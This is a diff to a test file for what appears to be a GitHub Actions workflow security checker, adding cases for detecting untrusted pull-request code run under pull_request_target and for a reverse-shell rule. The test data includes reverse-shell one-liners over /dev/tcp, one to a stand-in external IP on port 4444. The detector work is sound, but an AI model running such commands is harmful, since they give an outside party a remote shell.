@@ -358,9 +358,29 @@ describe('how many jobs have a right', () => {
     [['', ''], /^high: `contents: write` is given to all 2 jobs: the token of each/],
     [['', '', reads], /^high: `contents: write` is given to 2 of 3 jobs: the token of each/],
     [['', '', writesToo], /^high: `contents: write` is given to all 3 jobs/],
-    [['', reads], /^high: `contents: write` is given to the whole workflow, and one of 2 jobs has it: its token/],
+    [['', reads], /^low: `contents: write` is given to the whole workflow, and one of 2 jobs has it: its token/],
     [[reads, reads], /^low: `contents: write` is given to the whole workflow, and no job has it/],
   ])('%j', async (permissions, message) => {
     expect(await found('excessive-permissions', jobs(...permissions))).toContainEqual(expect.stringMatching(message));
   });
+});
+
+test.each([
+  ['git merge-tree --write-tree HEAD FETCH_HEAD', 0],
+  ['git merge-base HEAD FETCH_HEAD', 0],
+  ['git merge FETCH_HEAD', 1],
+  ['git -c a=b merge FETCH_HEAD', 1],
+])('a pull request that is fetched, and %s behind it', async (command, count) => {
+  const fetched = `      - run: |\n          git fetch origin "pull/\${{ github.event.number }}/head"\n          ${command}\n      - run: make\n`;
+  expect(await found('untrusted-checkout-execution', job('pull_request_target', fetched))).toHaveLength(count);
+});
+
+test.each([
+  ['(exec 3<>/dev/tcp/127.0.0.1/$port) 2>/dev/null', 0],
+  ['(exec 3<>/dev/tcp/localhost/80) 2>/dev/null', 0],
+  ['bash -c "exec 3<>/dev/tcp/198.51.100.7/4444"', 1],
+  ['(exec 3<>/dev/tcp/localhost.test/80) 2>/dev/null', 1],
+  ['bash -i >& /dev/tcp/127.0.0.1/4444 0>&1', 1],
+])('a shell that is connected: %s', async (command, count) => {
+  expect(await found('reverse-shell', job('push', `      - run: '${command}'\n`))).toHaveLength(count);
 });
